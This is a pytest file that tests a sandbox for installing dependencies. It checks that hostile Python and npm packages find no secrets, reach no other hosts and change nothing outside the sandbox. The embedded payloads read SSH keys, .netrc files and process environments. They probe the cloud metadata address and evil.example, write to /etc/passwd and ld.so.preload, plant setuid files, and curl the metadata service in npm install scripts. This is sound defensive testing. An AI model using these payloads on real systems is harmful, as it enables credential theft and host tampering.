"""C07: installers run strangers' code, and find, reach and change nothing; names are shown beforehand."""

import json
import signal
import subprocess
import time
from collections.abc import Callable
from pathlib import Path

import docker
import pytest

from sandbox.dependencies import read
from sandbox.docker import DockerSandbox
from sandbox.errors import PrepareFailed
from sandbox.images import recipe
from sandbox.isolation import Engine, choose
from sandbox.owner import PID, RUN
from sandbox.prepared import every
from tests.adi_kit import ADI, adi
from tests.containment_kit import LIMITS, Contained, pack
from tests.index_kit import node_package, sdist, serve_index, wheel
from tests.other_engine import RUNSC, other_engine, skip_without
from tests.prepare_kit import Texts, inside, kept, step_of

pytestmark = [pytest.mark.containment]
container = pytest.mark.container

SETUP = r"""
import glob, json, os, socket, subprocess
REPORT = {"env": dict(os.environ), "read": {}, "reached": [], "wrote": []}
for place in ("~/.netrc", "~/.ssh/id_rsa", "/root/.netrc", "%(home)s/canary", "/var/run/docker.sock",
              "/proc/1/environ", "/proc/self/mountinfo", *glob.glob("/gate/*"), *glob.glob("/work/*")):
    try:
        with open(os.path.expanduser(place), "rb") as file:
            REPORT["read"][place] = file.read(2000).decode("latin-1")
    except OSError as error:
        pass
for host, port in (("169.254.169.254", 80), ("%(gateway)s", 22), ("1.1.1.1", 443), ("%(gateway)s", %(port)d)):
    try:
        socket.create_connection((host, port), timeout=2).close()
        REPORT["reached"].append(host)
    except OSError:
        pass
for host in ("evil.example:443", "169.254.169.254:80", "169.254.169.254:443", "%(gateway)s:%(port)d",
             "127.0.0.1:22", "registry.npmjs.org:443"):
    with socket.create_connection(("127.0.0.1", 3128), timeout=5) as proxy:
        proxy.sendall(("CONNECT %%s HTTP/1.1\r\n\r\n" %% host).encode())
        if not proxy.recv(100).startswith(b"HTTP/1.1 403"):
            REPORT["reached"].append("proxy " + host)
for place in ("/etc/passwd", "/usr/bin/env", "/usr/lib/python3/dist-packages/pytest/__init__.py",
              "%(home)s/marker", "/gate/marker", "/marker", "/etc/ld.so.preload"):
    try:
        with open(place, "ab") as file:
            file.write(b"payload")
        REPORT["wrote"].append(place)
    except OSError:
        pass
try:
    os.unlink("/gate/proxy.sock")
    REPORT["wrote"].append("socket")
except OSError:
    pass
os.makedirs("/deps/odd", exist_ok=True)
with open("/deps/odd/root", "w") as file:
    file.write("#!/bin/sh\n")
os.chmod("/deps/odd/root", 0o6777)
os.mkfifo("/deps/odd/fifo")
os.symlink("/etc/shadow", "/deps/odd/shadow")
os.symlink("../../../../../../etc", "/deps/odd/up")
quiet = dict.fromkeys(("stdin", "stdout", "stderr"), subprocess.DEVNULL)
subprocess.Popen(["setsid", "sleep", "%(marker)s"], **quiet)
with open("module.py", "w") as file:
    file.write("REPORT = " + repr(json.dumps(REPORT)))
"""


def gateway(client: docker.APIClient) -> str:
    """This machine as containers on the default bridge would see it."""
    return str(client.inspect_network("bridge")["IPAM"]["Config"][0].get("Gateway") or "192.0.2.1")


@container
def test_sandbox_c07_setup_py_payload_finds_and_reaches_nothing(
    contained: Contained, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A hostile setup.py finds no secret, reaches no other host and writes nothing outside."""
    assert contained.client is not None
    canary = f"canary-{contained.marker}"
    for name in (
        "PIP_INDEX_URL",
        "AWS_SECRET_ACCESS_KEY",
        "SSH_AUTH_SOCK",
        "npm_config__auth",
        "HTTPS_PROXY",
    ):
        monkeypatch.setenv(name, f"http://{canary}")
    home = contained.home
    (home / "canary").write_text(canary)
    (home / ".netrc").write_text(f"machine 127.0.0.1 login x password {canary}\n")
    monkeypatch.setenv("HOME", str(home))
    with serve_index({}) as index:
        words = {"home": home, "gateway": gateway(contained.client), "port": index.port}
        index.files["hostile-1.0.tar.gz"] = sdist("hostile", SETUP % {**words, "marker": contained.marker})
        wanted = read(Texts({"requirements.txt": "hostile\n"}), "python")
        step = step_of(contained, wanted, index.registries)
        with kept(step) as image:
            text = inside(contained, image, "python3 -c 'import hostile; print(hostile.REPORT)'")
            left = inside(
                contained, image, "find /deps/odd -printf '%y %m %U %p %l\\n'; "
                "grep -rl canary- /deps | sed s/^/FOUND/; "
                "sha256sum /etc/passwd /usr/bin/env; ls /etc/ld.so.preload /marker; pgrep sleep -a",
            )  # fmt: skip
            clean = inside(contained, step.base, "sha256sum /etc/passwd /usr/bin/env")
            config = contained.client.inspect_image(image)["Config"]
            base = contained.client.inspect_image(step.base)["Config"]
        host = "".join(path.read_text("latin-1") for path in home.iterdir() if path.is_file())
    report = json.loads(text)
    assert canary not in text + json.dumps(index.asked)
    assert contained.home.name not in json.dumps(report["env"]) + report["read"].get("/proc/1/environ", "")
    assert set(report["read"]) <= {
        "/proc/1/environ", "/proc/self/mountinfo", "/work/plain.txt", "/work/hashed.txt",
        "/work/constraints.txt", "/work/ca.pem",
    }  # fmt: skip
    assert report["reached"] == []
    assert report["wrote"] == []
    assert "payload" not in host
    assert {one.host for one in step.asked if not one.allowed} == {
        "evil.example", "169.254.169.254:80", "169.254.169.254", f"{words['gateway']}:{index.port}",
        "127.0.0.1:22", "registry.npmjs.org",
    }  # fmt: skip
    assert [one.host for one in step.asked if one.allowed] == [f"127.0.0.1:{index.port}"]
    rows = [line.split(" ") for line in left.splitlines() if "/deps/odd" in line and line[0] in "dflps"]
    assert {row[0] for row in rows} == {"d", "f", "l"}, "the FIFO is not kept"
    assert {row[2] for row in rows} == {"0"}, "root owns what is kept"
    assert ["f", "755", "0", "/deps/odd/root", ""] in rows, "no set-user bit is kept"
    assert clean.strip() in left
    assert "FOUND" not in left
    assert {key: config.get(key) for key in ("Env", "Entrypoint", "User", "Volumes", "OnBuild")} == {
        key: base.get(key) for key in ("Env", "Entrypoint", "User", "Volumes", "OnBuild")
    }
    assert not contained.marked()


@container
def test_sandbox_c07_a_payload_cannot_fill_the_disk_or_stay(contained: Contained) -> None:
    """More than the room is refused by the kernel; a fork bomb and a sleeper end with the step."""
    setup = (
        "import os, subprocess\n"
        "quiet = dict.fromkeys(('stdin', 'stdout', 'stderr'), subprocess.DEVNULL)\n"
        f"subprocess.Popen(['setsid', 'sleep', '{contained.marker}'], **quiet)\n"
        "try:\n    os.posix_fallocate(os.open('/deps/big', os.O_CREAT | os.O_WRONLY), 0, 10**12)\n"
        "finally:\n    open('/deps/more', 'wb').write(b'x' * (100 * 1024**2))\n"
    )
    with serve_index({"greedy-1.0.tar.gz": sdist("greedy", setup)}) as index:
        step = step_of(contained, read(Texts({"requirements.txt": "greedy\n"}), "python"), index.registries)
        with pytest.raises(PrepareFailed, match="larger than its room") as failed, kept(step):
            pass
    assert "prepare_mb" in failed.value.hint
    assert step.tag not in {one.tag for one in every(step.client)}
    assert not contained.marked()


@container
def test_sandbox_c07_a_typo_is_shown_and_nothing_is_kept(make_repo: Callable[..., Path]) -> None:
    """A name that a model made up: the person sees it beforehand, the index says no, no image is left."""
    repo = make_repo({"requirements.txt": "reqeusts-toolz>=2\n", "test_a.py": "def test_a(): pass\n"})
    with serve_index({"requests-1.0-py3-none-any.whl": wheel("requests", {})}) as index:
        listed = json.dumps(index.registries)
        shown = adi(repo, "prepare", ADI_SANDBOX__REGISTRIES=listed)
        assert shown.returncode == 4
        assert index.asked == [], "nothing is asked of the index before a person agrees"
        assert "    reqeusts-toolz >=2\n" in shown.stderr
        done = adi(repo, "prepare", "--yes", ADI_SANDBOX__REGISTRIES=listed)
    assert done.returncode == 6, done.stderr
    assert "the index does not have it" in done.stderr
    assert "reqeusts-toolz" in done.stderr
    assert "is it a typo?" in done.stderr
    assert index.asked == ["/simple/reqeusts-toolz/"]
    assert done.stdout == "", "no environment is named, for none was kept"


@container
@pytest.mark.languages
@pytest.mark.slow
def test_sandbox_c07_postinstall_payload_does_not_run(contained: Contained) -> None:
    """npm's install scripts are the usual way in: none is run, and the package works without."""
    assert contained.client is not None
    base = recipe("node").tag
    if not contained.client.images(name=base):
        pytest.skip(f"no image {base} here; make it: adi run in a Node repository")
    script = "touch /deps/marker; curl http://169.254.169.254/; echo ran > /deps/node_modules/ran"
    scripts = {"preinstall": script, "install": script, "postinstall": script}
    tarball = node_package("hostile", {"index.js": "module.exports = 7;\n"}, scripts=scripts)
    with serve_index({"hostile.tgz": tarball}) as index:
        manifest = json.dumps({"scripts": scripts, "dependencies": {"hostile": "^1.0.0"}})
        step = step_of(contained, read(Texts({"package.json": manifest}), "node"), index.registries, base)
        with kept(step) as image:
            out = inside(
                contained, image, "node -e 'console.log(require(\"hostile\"))'; ls -A /deps; "
                "ls node_modules; find / -name ran -o -name marker 2>/dev/null",
            )  # fmt: skip
    assert out.split() == ["7", "node_modules", "package-lock.json", "package.json", "hostile"]
    assert [one.host for one in step.asked] == [f"127.0.0.1:{index.port}"]


@container
def test_sandbox_c07_ctrl_c_ends_the_step_and_keeps_nothing(
    contained: Contained, make_repo: Callable[..., Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    """While an installer waits for the index: no container, proxy or image is left."""
    repo = make_repo({"requirements.txt": "adi-slow\n", "test_a.py": "def test_a(): pass\n"})
    with serve_index({"adi_slow-1.0-py3-none-any.whl": wheel("adi_slow", {})}) as index:
        index.delay_s = 3.0
        monkeypatch.setenv("ADI_SANDBOX__REGISTRIES", json.dumps(index.registries))
        with subprocess.Popen(
            [*ADI, "prepare", "--yes"], cwd=repo, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
        ) as child:
            while not index.asked and child.poll() is None:
                time.sleep(0.05)
            child.send_signal(signal.SIGINT)
            out, errors = child.communicate(timeout=30)
    assert child.returncode == 130, errors
    assert out == ""
    assert "interrupted by Ctrl-C" in errors
    assert contained.client is not None
    running = contained.client.containers(all=True, filters={"label": RUN})
    assert not [one for one in running if one["Labels"].get(PID) == str(child.pid)]


def test_sandbox_c07_names_are_shown_inert_and_complete() -> None:
    """What is shown is what is installed: a control character or a second name makes no requirement."""
    text = "good\nba\x1b[8md\nreal fake\n-e git+https://x/y\n./local\nname;os_name=='x'\\\n  # hidden\n"
    text += "ok==1.0,<2\n"
    wanted = read(Texts({"requirements.txt": text}), "python")
    names = [package.name for package in wanted.packages]
    assert names == ["good", "name", "ok"]
    given = wanted.inputs["plain.txt"].decode().splitlines()
    assert [line.partition(";")[0].partition("==")[0] for line in given] == names
    assert len(wanted.left_out) == 4


def test_sandbox_c07_reading_dependency_files_runs_nothing(tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    setup = f"import os\nos.system('touch {marker}')\nfrom setuptools import setup\n"
    setup += "setup(install_requires=['a'])\n"
    wanted = read(
        Texts({"setup.py": setup, "pyproject.toml": "[project]\nname='p'\ndependencies=['b']\n"}), "python"
    )
    assert {package.name for package in wanted.packages} == {"a", "b"}
    assert not marker.exists()


@container
@pytest.mark.slow
@pytest.mark.xdist_group("engines")
def test_sandbox_c07_gvisor_without_the_socket_is_refused_not_weakened(contained: Contained) -> None:
    """gVisor passes no unix socket of the host on, unless told: the step says so and opens nothing else."""
    skip_without("runsc")
    with other_engine("plain", {"runsc": RUNSC}) as (client, _), serve_index({}) as index:
        wanted = read(Texts({"requirements.txt": "adi-x\n"}), "python")
        step = step_of(contained, wanted, index.registries)
        step.client, step.isolation = client, choose(Engine.ask(client), "auto", "")
        with pytest.raises(PrepareFailed, match="cannot reach the proxy's socket") as refused:
            step.run()
        assert "ADI_SANDBOX__ISOLATION=container" in refused.value.hint
        assert index.asked == []
        assert every(client) == []


@container
@pytest.mark.slow
@pytest.mark.xdist_group("engines")
def test_sandbox_c07_user_namespaces_prepare_too(contained: Contained) -> None:
    """Where the container's users are others of the machine, the socket and the layer still work."""
    skip_without()
    files = {"adi_x-1.0-py3-none-any.whl": wheel("adi_x", {"adi_x.py": "WORD = 'there'\n"})}
    with other_engine("remap") as (client, _), serve_index(files) as index:
        step = step_of(contained, read(Texts({"requirements.txt": "adi-x\n"}), "python"), index.registries)
        step.client, step.isolation = client, choose(Engine.ask(client), "userns", "")
        step.run()
        with DockerSandbox(
            pack({"a.py": b""}), image=step.tag, run_id=contained.run_id, limits=LIMITS, client=client
        ) as made:
            seen = made.run("python3 -c 'from adi_x import WORD; print(WORD)'", timeout_s=30)
        assert seen.output == b"there\n"
